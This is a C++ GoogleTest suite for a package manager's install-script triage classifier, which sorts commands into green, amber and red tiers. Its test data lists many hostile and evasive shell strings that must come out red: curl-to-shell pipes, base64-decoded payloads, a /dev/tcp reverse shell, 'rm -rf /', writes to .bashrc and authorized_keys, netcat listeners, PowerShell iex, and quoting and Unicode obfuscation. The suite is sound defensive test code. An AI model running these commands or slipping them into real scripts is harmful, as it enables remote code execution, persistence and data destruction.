#include "security/triage.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <chrono>
#include <fstream>
#include <map>
#include <random>
#include <sstream>
#include <string>
#include <vector>

#include "formats/json.h"

namespace lpm::security {
namespace {

struct Row {
  std::string id;
  std::string tier;
  std::string script;
};

std::string read_text(const std::string& path) {
  std::ifstream file(path, std::ios::binary);
  std::stringstream text;
  text << file.rdbuf();
  return text.str();
}

std::vector<Row> corpus() {
  const std::string path = std::string(LPM_TEST_DATA) + "/script-triage/corpus.json";
  const auto document = formats::json::parse(read_text(path), "corpus.json");
  std::vector<Row> rows;
  if (!document) return rows;
  for (const formats::json::Value& item : document->items) {
    rows.push_back({std::string(*item.text_at("id")), std::string(*item.text_at("tier")),
                    std::string(*item.text_at("script"))});
  }
  return rows;
}

std::string tier_of(std::string_view command) {
  return std::string(name_of(classify_command(command).tier));
}

std::string reasons(std::string_view command) {
  std::string text;
  for (const Evidence& evidence : classify_command(command).evidence) {
    text.append("\n  ").append(evidence.rule).append(": ").append(evidence.text);
  }
  return text;
}

// labels: contract:I.6
TEST(Triage, AgreesWithTheLabelledCorpus) {
  const std::vector<Row> rows = corpus();
  ASSERT_EQ(rows.size(), 250U);
  std::map<std::string, int> confusion;
  int agreed = 0;
  for (const Row& row : rows) {
    const std::string tier = tier_of(row.script);
    ++confusion[row.tier + " -> " + tier];
    agreed += tier == row.tier ? 1 : 0;
    EXPECT_EQ(tier, row.tier) << row.id << ": " << row.script << reasons(row.script);
    if (row.tier != "red") {
      EXPECT_NE(tier, "red") << row.id;
    }
    if (row.tier != "green") {
      EXPECT_NE(tier, "green") << row.id;
    }
  }
  for (const auto& [what, count] : confusion) std::printf("%-16s %d\n", what.c_str(), count);
  EXPECT_EQ(agreed, 250);
}

TEST(Triage, NamesARuleForEveryCommand) {
  for (const Row& row : corpus()) {
    const Verdict verdict = classify_command(row.script);
    ASSERT_FALSE(verdict.evidence.empty()) << row.script;
    EXPECT_EQ(verdict.evidence.front().tier, verdict.tier) << row.script;
  }
}

class EvasionIsRed : public testing::TestWithParam<const char*> {};
TEST_P(EvasionIsRed, IsRed) {
  EXPECT_EQ(tier_of(GetParam()), "red") << reasons(GetParam());
}

INSTANTIATE_TEST_SUITE_P(
    NestedInstall, EvasionIsRed,
    testing::Values(
        "\"np\"m install x", "np''m install x", "n\\pm install x", "npm \\\n install x",
        "FOO=1 npm i x", "command npm add x", "env npm install", "env A=1 -i npm i x",
        "sudo npm install", "sudo -u root npm install", "sudo -E -H npm i x", "xargs npm install",
        "time npm i", "exec npm i", "nohup npm i &", "/usr/bin/npm install", "npm.cmd install x",
        "NPM.CMD install x", "npm --prefix x install y", "npm --foo bar install y",
        "corepack npm install", "npm${IFS}install${IFS}x", "npm$IFS'install' x",
        "np${x}m install x", "np$1m install y", "${x:-npm} install y", "timeout 10 npm install",
        "nice -n 5 npm install", "tsc && npm install x", "tsc;npm install x", "tsc||npm i x",
        "(npm install x)", "{ npm install x; }", "tsc & npm i x", "if true; then npm install x; fi",
        "for i in 1 2; do npm install x; done", "f() { npm install x; }; f",
        "echo $(npm install x)", "echo `npm install x`", "echo \"$(npm install x)\"",
        "sh -c 'npm install x'", "bash -lc \"npm install x\"", "sh -c \"sh -c 'npm install x'\"",
        "cmd /c npm install x", "trap 'npm i x' EXIT", "find . -exec npm install {} \\;",
        "{npm,install,x}", "$'\\x6epm' install x", "X=$(npm install y) tsc", "cat <(npm install x)",
        "yarn global add x", "pnpm --dir x add y", "pip3.11 install x",
        "cross-env A=1 npm install x", "n^pm install x", "npm instal x",
        "case a in a) npm install x;; esac", "tsc # hi\nnpm install x", "cat <<E\nE\nnpm install x",
        "! npm i x", "echo \"a $(echo \"b $(npm install x)\")\"", "echo ${x:-$(npm install y)}"));

INSTANTIATE_TEST_SUITE_P(
    DownloadToShell, EvasionIsRed,
    testing::Values("curl x|sh", "curl x |bash -s -- y", "curl x | sudo bash",
                    "curl x | tee y | sh", "curl x | /bin/sh", "curl x |& sh", "bash <(curl x)",
                    "sh -c \"$(curl x)\"", "sh -c \"`wget -qO- x`\"", "source <(curl x)",
                    ". <(curl x)", "bash < <(curl x)", "bash <<< \"$(curl x)\"", "(curl x) | sh",
                    "{ curl x; } | sh", "curl x | (cat | sh)", "curl x | { sh; }",
                    "curl x | while read l; do sh -c \"$l\"; done", "echo aaaa | base64 -d | sh",
                    "base64 -D x | bash", "base64 -di x | bash", "openssl base64 -d -in x | sh",
                    "xxd -r -p x | sh", "curl x | xargs -0 sh -c", "curl x | env bash",
                    "eval \"$(curl x)\"", "/usr/bin/curl x | sh", "cu''rl x | sh"));

INSTANTIATE_TEST_SUITE_P(InlineCode, EvasionIsRed,
                         testing::Values("node --eval 'x'", "node --eval=x", "node -r ./a -e x",
                                         "node --no-warnings -e x", "nodejs -e x",
                                         "/usr/bin/node -e x", "node.exe -e x", "node '-e' x",
                                         "node -\"e\" x",
                                         "node --import data:text/javascript,x y.js",
                                         "node --import=data:text/javascript,x",
                                         "node -e \"try{require('../x')}catch(e){}\"",
                                         "node -e \"try{require('./x')}catch(e){a()}\"",
                                         "node -e \"try{require('./x');a()}catch(e){}\""));

INSTANTIATE_TEST_SUITE_P(
    Outside, EvasionIsRed,
    testing::Values("r''m -rf /", "rm -r -f ~", "rm --recursive --force /x", "rm -fr \"$HOME\"",
                    "rm -Rf ${HOME}/x", "rm -rf -- /", "rm -rf *", "rm -rf \"/\"*", "rm -r /",
                    "rm -rf C:/Users", "chmod a+x /usr/local/bin/x", "chmod 0755 /x",
                    "chmod -R 777 ~/x", "chmod +x $HOME/x", "chmod +x ../x",
                    "echo x >> \"$HOME/.bashrc\"", "echo x>>~/.profile", "echo x > ${HOME}/.zshenv",
                    "echo x >| ~/.ssh/config", "echo x &> /etc/hosts", "tee -a ~/.bashrc",
                    "cp x ~/.ssh/authorized_keys", "dd of=/etc/hosts", "cd ~ && echo x >> .bashrc",
                    "curl x -o ~/.bashrc", "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
                    "echo x > /home/me/.npmrc", "echo x > /root/x"));

INSTANTIATE_TEST_SUITE_P(Others, EvasionIsRed,
                         testing::Values("/bin/nc -l 1", "sudo nc -l 1", "command eval x",
                                         "iwr x | iex", "IEX (x)", "in`voke-exp`ression x",
                                         "[Convert]::FromBase64String('x')", "tsc\xE2\x80\x8B",
                                         "node\xF3\xA0\x81\x81 build.js", "tsc \"a\xE2\x81\xA6\""));

class OpenQuestionIsAmber : public testing::TestWithParam<const char*> {};
TEST_P(OpenQuestionIsAmber, IsAmber) {
  EXPECT_EQ(tier_of(GetParam()), "amber") << reasons(GetParam());
}

INSTANTIATE_TEST_SUITE_P(
    Recipes, OpenQuestionIsAmber,
    testing::Values("", " \n", "FOO=1 tsc", "NODE_OPTIONS=-rx node build.js", "tsc > x", "tsc \\\n",
                    "tsc # x", "tsc | cat", "tsc &", "t\\sc", "\"t\"sc", "tsc -p ../x", "tsc -p /x",
                    "tsc -p", "tsc --outDir ..", "node x", "node ./x", "node x.ts",
                    "node -r ./y x.js", "node x.js --flag", "node ./../x.js", "node a/../../x.js",
                    "node ~/x.js", "node $X.js", "node x$(y).js", "node node_modules/y/x.js",
                    "node C:/x.js", "node a\\b.js", "node preinstall.js", "node install.mjs",
                    "node ./Install.js", "NODE build.js", "./node build.js", "node build.js; ",
                    "husky add x", "prisma generate --schema x", "node-gyp rebuild -C x",
                    "node 'a b.js'", "node \"x.js", "tsc (", "if tsc", "node file:///x.js",
                    "node https://x/y.js", "node \xC3\xA9.js", "echo `", "node *.js", "tsc `",
                    "(tsc)", "{ tsc; }"));

INSTANTIATE_TEST_SUITE_P(
    NotRed, OpenQuestionIsAmber,
    testing::Values("npm ci", "npm run install", "npm --silent run install", "npm -s run install",
                    "npm run build -- install", "npx install-peerdeps", "npm exec x", "yarn",
                    "yarn run add", "bun run install", "echo npm install", "echo 'npm install x'",
                    "echo \"a; npm install x\"", "go install x", "uv pip install x", "pip list",
                    "python -c 'x'", "perl -e x", "node -p x", "python -m pip install x",
                    "curl x -o y && sh y", "curl x | python3", "curl x; sh y", "curl x > y",
                    "rm -rf dist", "rm -rf ./dist/*", "rm dist/*", "rm -rf $DIR/x", "rm /x",
                    "chmod +x ./x.sh", "chmod 644 /x", "echo x > /tmp/y", "echo x > ~/y",
                    "echo x > /dev/null 2>&1", "cat ~/.bashrc", "grep eval x", "echo iex",
                    "which nc", "bash build.sh $(curl x)",
                    "node -e \"try{require('./postinstall')}catch(e){}\"", "cargo build --release",
                    "gem list install", "echo \xE2\x9C\x85\xEF\xB8\x8F"));

TEST(Triage, ReadsGreenRecipesHoweverTheyAreSpaced) {
  for (const char* command : {"tsc", "  tsc \n", "node-gyp  rebuild", "node \"scripts/build.js\"",
                              "node-gyp rebuild --debug", "node scripts/install-hooks.js",
                              "tsc -p .", "node .hidden/x.js"}) {
    EXPECT_EQ(tier_of(command), "green") << command << reasons(command);
  }
}

// labels: contract:I.6
TEST(Triage, StaysAsBadWhenACommandIsAppended) {
  const std::vector<Row> rows = corpus();
  std::mt19937 random(7);
  std::uniform_int_distribution<std::size_t> any(0, rows.size() - 1);
  for (int round = 0; round < 4000; ++round) {
    std::string a = rows[any(random)].script;
    const std::string b = rows[any(random)].script;
    a.pop_back();
    if (a.find('"') != std::string::npos && a.find("unclosed") != std::string::npos) continue;
    for (const char* glue : {" && ", ";", " | ", "\n", " || ", " & "}) {
      const Tier whole = classify_command(a + glue + b).tier;
      EXPECT_GE(whole, classify_command(a).tier) << a << glue << b;
      EXPECT_GE(whole, classify_command(b).tier) << a << glue << b;
    }
  }
}

TEST(Triage, ReadsHostileTextsInLinearTime) {
  const std::vector<std::string> parts = {"$(",    "\"",       "'",       "`",           "(",
                                          "{ ",    "sudo ",    "env -S ", "sh -c ",      "<(",
                                          "${x:-", "\\",       "<<E\n",   "find -exec ", "cmd /c ",
                                          "a|",    "npm --x ", "if ",     "\"$(",        "rm -rf "};
  for (const std::string& part : parts) {
    std::string text;
    while (text.size() < (1U << 20U)) text += part;
    const auto begin = std::chrono::steady_clock::now();
    EXPECT_NE(classify_command(text).tier, Tier::Green) << part;
    EXPECT_LT(std::chrono::steady_clock::now() - begin, std::chrono::seconds(20)) << part;
  }
}

TEST(Triage, DescribesEachRuleInItsDocument) {
  const std::string page = read_text(std::string(LPM_TEST_DATA) + "/../../docs/triage.md");
  for (const Rule& rule : rules()) {
    EXPECT_THAT(page, testing::HasSubstr("| `" + std::string(rule.id) + "` | " +
                                         std::string(name_of(rule.tier)) + " |"));
  }
}

}  // namespace
}  // namespace lpm::security
